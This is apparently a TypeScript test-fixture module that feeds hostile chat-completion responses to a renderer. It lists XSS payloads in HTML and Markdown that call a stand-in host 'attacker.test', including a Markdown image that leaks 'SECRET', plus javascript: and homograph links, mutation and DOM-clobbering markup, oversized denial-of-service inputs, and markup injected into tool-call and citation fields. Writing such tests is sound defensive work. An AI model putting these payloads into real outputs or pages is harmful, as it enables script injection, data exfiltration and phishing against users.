import { answer, asked, choiceOf } from './answer.ts'
import type { ZooAnimal } from './zoo-animal.ts'

/** The host that must never be asked; every payload below tries to reach it. */
export const ATTACKER = 'http://attacker.test'

const MARKUP: readonly (readonly [name: string, text: string])[] = [
  ['script', `<script>fetch('${ATTACKER}/x1')</script>`],
  ['imageError', `<img src=x onerror="fetch('${ATTACKER}/x2')">`],
  ['svgOnload', `<svg onload="fetch('${ATTACKER}/x3')"></svg>`],
  ['svgImage', `<svg><image href="${ATTACKER}/x4"></image></svg>`],
  ['mathLink', '<math href="javascript:alert(1)">click</math>'],
  ['iframe', `<iframe src="${ATTACKER}/x6"></iframe>`],
  ['iframeSrcdoc', `<iframe srcdoc="<script>parent.location='${ATTACKER}/x7'</script>"></iframe>`],
  ['object', `<object data="${ATTACKER}/x8"></object><embed src="${ATTACKER}/x8b">`],
  ['styleImport', `<style>@import "${ATTACKER}/x9.css";</style>`],
  ['styleUrl', `<div style="background:url(${ATTACKER}/x10)">styled</div>`],
  [
    'links',
    `<link rel=stylesheet href="${ATTACKER}/x11.css"><link rel=prefetch href="${ATTACKER}/x11"><link rel=dns-prefetch href="${ATTACKER}">`,
  ],
  ['metaRefresh', `<meta http-equiv="refresh" content="0;url=${ATTACKER}/x12">`],
  ['base', `<base href="${ATTACKER}/">`],
  ['form', `<form action="${ATTACKER}/x14"><button autofocus>Sign in again</button></form>`],
  ['media', `<video poster="${ATTACKER}/x15"></video><audio autoplay src="${ATTACKER}/x15.mp3"></audio>`],
  ['picture', `<picture><source srcset="${ATTACKER}/x16"><img></picture>`],
  ['inputImage', `<input type=image src="${ATTACKER}/x17">`],
  ['tableBackground', `<table background="${ATTACKER}/x18"><tr><td>cell</td></tr></table>`],
  ['shadowRoot', `<div><template shadowrootmode=open><img src="${ATTACKER}/x19"></template></div>`],
  ['unclosed', '<!-- <![CDATA[ <plaintext>the rest of the page'],
  ['mutation', `<noscript><p title="</noscript><img src=x onerror=fetch('${ATTACKER}/x21')>">`],
  ['clobbering', '<a id=__ev></a><form name=root><input name=attributes></form>'],
  ['entities', '&lt;script&gt;alert(1)&lt;/script&gt; and &amp;lt;img src=x onerror=alert(1)&amp;gt;'],
]

const MARKDOWN: readonly (readonly [name: string, text: string])[] = [
  ['remoteImage', `![the chart](${ATTACKER}/?q=SECRET)`],
  ['referenceImage', `![alt][r]\n\n[r]: ${ATTACKER}/l2`],
  ['javascriptLink', '[click me](javascript:alert(1))'],
  [
    'obfuscatedLinks',
    '[a](JaVaScRiPt:alert(1)) [b](java\tscript:alert(1)) [c](javascript&colon;alert(1)) [d](\u0000javascript:alert(1))',
  ],
  ['dataLink', '[open](data:text/html,<script>alert(1)</script>)'],
  ['oddSchemes', '[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](intent:x) [e](ms-msdt:x)'],
  ['schemeRelative', '[a](//attacker.test/l7) [b](/\\attacker.test) [c](\\\\attacker.test\\share)'],
  ['autolinks', `<${ATTACKER}/l8> and ${ATTACKER}/bare`],
  ['lyingText', `[https://openai.com](${ATTACKER}/l9)`],
  ['homograph', '[account](https://аpple.com/login)'],
  ['userinfo', '[docs](https://openai.com@evil.test/)'],
  ['manyLinks', Array.from({ length: 2_000 }, (_, n) => `[${n}](https://example.com/${n})`).join(' ')],
  ['nestedQuotes', `${'>'.repeat(5_000)} deep`],
  ['nestedLists', Array.from({ length: 400 }, (_, n) => `${'  '.repeat(n)}- ${n}`).join('\n')],
  ['stars', '*'.repeat(50_000)],
  ['wideTable', `|${'a|'.repeat(2_000)}\n|${'-|'.repeat(2_000)}\n|${'b|'.repeat(2_000)}`],
  ['footnotes', 'x[^1] y[^1]\n\n[^1]: see [^2]\n[^2]: see [^1]'],
  ['fenceLanguage', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['latex', '$\\href{javascript:alert(1)}{x}$ \\(\\href{javascript:alert(1)}{y}\\)'],
  ['mermaid', '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```'],
]

const HOSTILE_TEXT = `"><img src=x onerror="fetch('${ATTACKER}/x24')">`

/** Hostile text outside of the content: names, reasons, metadata, citations, arguments. */
const ELSEWHERE: readonly ZooAnimal[] = [
  {
    name: 'hostileNames',
    title: 'Markup in model, reason, fingerprint, tool name, metadata',
    body: answer({
      id: 'hostile-names',
      model: `gpt${HOSTILE_TEXT}`,
      choices: [
        choiceOf(
          0,
          {
            content: 'Look at the names.',
            tool_calls: [
              {
                id: HOSTILE_TEXT,
                type: 'function',
                function: { name: HOSTILE_TEXT, arguments: JSON.stringify({ html: HOSTILE_TEXT }) },
              },
            ],
          },
          HOSTILE_TEXT,
        ),
      ],
      extra: { system_fingerprint: HOSTILE_TEXT, metadata: { [HOSTILE_TEXT.slice(0, 60)]: HOSTILE_TEXT } },
    }),
    request: asked(HOSTILE_TEXT),
  },
  {
    name: 'hostileCitations',
    title: 'Citations with bad places, bad links and bad titles',
    body: answer({
      id: 'hostile-citations',
      choices: [
        choiceOf(0, {
          content: 'Short text with an emoji 👩‍👩‍👧 in it.',
          annotations: [
            { start_index: 5, end_index: 2, url: 'javascript:alert(1)', title: '<b>reversed</b>' },
            { start_index: -4, end_index: 9_999, url: `${ATTACKER}/cited`, title: 'line\nbreak' },
            { start_index: 26, end_index: 27, url: 'https://example.com/inside-a-surrogate', title: '' },
            { start_index: null, end_index: 'x', url: 7, title: null },
            ...Array.from({ length: 300 }, (_, n) => ({
              start_index: n % 20,
              end_index: (n % 20) + 5,
              url: `https://example.com/${n}`,
              title: `source ${n}`,
            })),
          ].map((url_citation) => ({ type: 'url_citation', url_citation })),
        }),
      ],
    }),
    request: asked('Cite badly.'),
  },
]

const rows = (kind: string, list: typeof MARKUP): ZooAnimal[] =>
  list.map(([name, text]) => ({
    name: `${kind}_${name}`,
    title: `${kind}: ${name}`,
    body: answer({ id: `hostile-${kind}-${name}`, content: text, extra: { metadata: { hostile: kind } } }),
    request: asked(text),
  }))

/** Completions with hostile or very large values. Not part of the sample. */
export const HOSTILE_ANIMALS: readonly ZooAnimal[] = [
  ...rows('markup', MARKUP),
  ...rows('markdown', MARKDOWN),
  ...ELSEWHERE,
]
